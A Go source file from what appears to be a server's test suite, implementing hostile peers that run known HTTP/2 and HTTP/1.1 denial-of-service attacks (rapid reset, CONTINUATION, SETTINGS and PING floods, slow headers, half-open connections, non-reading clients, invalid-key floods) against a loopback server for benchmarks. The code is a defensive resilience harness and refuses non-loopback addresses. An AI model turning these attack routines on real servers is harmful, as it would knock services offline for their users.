// Package hostile has peers that attack a server on loopback, for benchmarks and for the attack suite.
package hostile

import (
	"bufio"
	"bytes"
	"context"
	"fmt"
	"io"
	"net"
	"sync"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

const (
	// pause is the time between two bursts of a hostile peer, and strokes is the number of frames in one.
	pause   = 10 * time.Millisecond
	strokes = 100
)

// APIKey is the key that the peers have, of a server that they attack.
const APIKey = "hostile-key"

// Kind is a kind of hostile peer. Each of the peers runs Attack until it fails, and then reconnects.
type Kind struct {
	Name   string
	Peers  int
	Attack func(ctx context.Context, tcp net.Conn) error
}

// Kinds returns the kinds that a server must withstand in any state.
func Kinds() []Kind {
	return []Kind{
		{"rapid reset", 4, rapidReset},
		{"CONTINUATION flood", 4, continuation},
		{"SETTINGS flood", 4, settings},
		{"PING flood", 4, pings},
		{"slow headers", 2000, slowHeaders},
		{"half-open connections", 5000, halfOpen},
		{"readers that stop", 200, stopReading},
		{"10,000 wrong keys/s", 4, wrongKeys},
	}
}

// Begin runs the peers until ctx is done. It does nothing unless addr is a loopback address.
func (h Kind) Begin(ctx context.Context, addr string) {
	if host, _, err := net.SplitHostPort(addr); err != nil || !net.ParseIP(host).IsLoopback() {
		return // hostile peers stay on this machine
	}
	// The peers have an address of their own, so that they share only the server with the well-behaved ones.
	dialer := net.Dialer{LocalAddr: &net.TCPAddr{IP: net.IPv4(127, 0, 0, 2)}}
	var all sync.WaitGroup
	for range h.Peers {
		all.Go(func() {
			for ctx.Err() == nil {
				tcp, err := dialer.DialContext(ctx, "tcp", addr)
				if err != nil {
					time.Sleep(pause)
					continue
				}
				stop := context.AfterFunc(ctx, func() { _ = tcp.Close() })
				_ = h.Attack(ctx, tcp)
				stop()
				_ = tcp.Close()
				time.Sleep(pause)
			}
		})
	}
	all.Wait()
}

// Flood sends an HTTP/2 client's preface, reads whatever arrives, and calls stroke in a loop.
func Flood(tcp net.Conn, stroke func(f *http2.Framer, n uint32) error) error {
	out := bufio.NewWriter(tcp) // an attack must not cost this machine more than the server
	f := http2.NewFramer(out, nil)
	if _, err := io.WriteString(out, http2.ClientPreface); err != nil {
		return err
	}
	go func() { _, _ = io.Copy(io.Discard, tcp) }()
	if err := f.WriteSettings(); err != nil {
		return err
	}
	for n := uint32(0); ; n++ {
		if err := stroke(f, n); err != nil {
			return err
		}
		if n%strokes == 0 {
			if err := out.Flush(); err != nil {
				return err
			}
			time.Sleep(pause)
		}
	}
}

func headers() []byte {
	return encode([][2]string{{":method", "GET"}, {":scheme", "http"}, {":path", "/v1/values?prefix=overload/"},
		{":authority", "a"}, {"x-api-key", APIKey}})
}

// encode returns fields as a header block that does not depend on others.
func encode(fields [][2]string) []byte {
	var block bytes.Buffer
	encoder := hpack.NewEncoder(&block)
	for _, field := range fields {
		_ = encoder.WriteField(hpack.HeaderField{Name: field[0], Value: field[1], Sensitive: true})
	}
	return block.Bytes()
}

func rapidReset(_ context.Context, tcp net.Conn) error {
	block := headers()
	return Flood(tcp, func(f *http2.Framer, n uint32) error {
		if err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: 2*n + 1, BlockFragment: block, EndHeaders: true, EndStream: true}); err != nil {
			return err
		}
		return f.WriteRSTStream(2*n+1, http2.ErrCodeCancel)
	})
}

func continuation(_ context.Context, tcp net.Conn) error {
	block := headers()
	return Flood(tcp, func(f *http2.Framer, n uint32) error {
		if n == 0 {
			return f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: block})
		}
		return f.WriteContinuation(1, false, bytes.Repeat([]byte{0, 1, 'a', 1, 'b'}, 200))
	})
}

func settings(_ context.Context, tcp net.Conn) error {
	return Flood(tcp, func(f *http2.Framer, n uint32) error {
		return f.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1<<16 + n})
	})
}

func pings(_ context.Context, tcp net.Conn) error {
	return Flood(tcp, func(f *http2.Framer, _ uint32) error { return f.WritePing(false, [8]byte{}) })
}

// slowHeaders sends a request one byte at a time.
func slowHeaders(ctx context.Context, tcp net.Conn) error {
	for _, b := range Request("GET", "/v1/values/overload/0042", "") {
		if _, err := tcp.Write([]byte{b}); err != nil {
			return err
		}
		select {
		case <-time.After(time.Second):
		case <-ctx.Done():
			return nil
		}
	}
	return nil
}

// halfOpen sends half of a request.
func halfOpen(_ context.Context, tcp net.Conn) error {
	whole := Request("GET", "/v1/values/overload/0042", "")
	if _, err := tcp.Write(whole[:len(whole)/2]); err != nil {
		return err
	}
	_, err := io.Copy(io.Discard, tcp) // until the server closes the connection
	return err
}

// wrongKeys sends invalid API keys, at a quarter of 10,000 a second.
func wrongKeys(ctx context.Context, tcp net.Conn) error {
	wrong := bytes.Replace(Request("GET", "/v1/values/overload/0042", ""), []byte(APIKey), []byte("guess"), 1)
	some := bytes.Repeat(wrong, 25)
	go func() { _, _ = io.Copy(io.Discard, tcp) }()
	ticks := time.NewTicker(pause)
	defer ticks.Stop()
	for ctx.Err() == nil {
		if _, err := tcp.Write(some); err != nil {
			return err
		}
		<-ticks.C
	}
	return nil
}

// stopReading requests pages until the server can send no more, and reads none of them.
func stopReading(ctx context.Context, tcp net.Conn) error {
	if err := tcp.(*net.TCPConn).SetReadBuffer(4 << 10); err != nil {
		return err
	}
	page := Request("GET", "/v1/values?prefix=overload/&pageSize=1000", "")
	for range 30 {
		if _, err := tcp.Write(page); err != nil {
			return err
		}
	}
	<-ctx.Done()
	return nil
}

// Request returns the bytes of an HTTP/1.1 request with APIKey.
func Request(method, target, body string) []byte {
	return fmt.Appendf(nil, "%s %s HTTP/1.1\r\nHost: a\r\nX-Api-Key: %s\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n%s",
		method, target, APIKey, len(body), body)
}
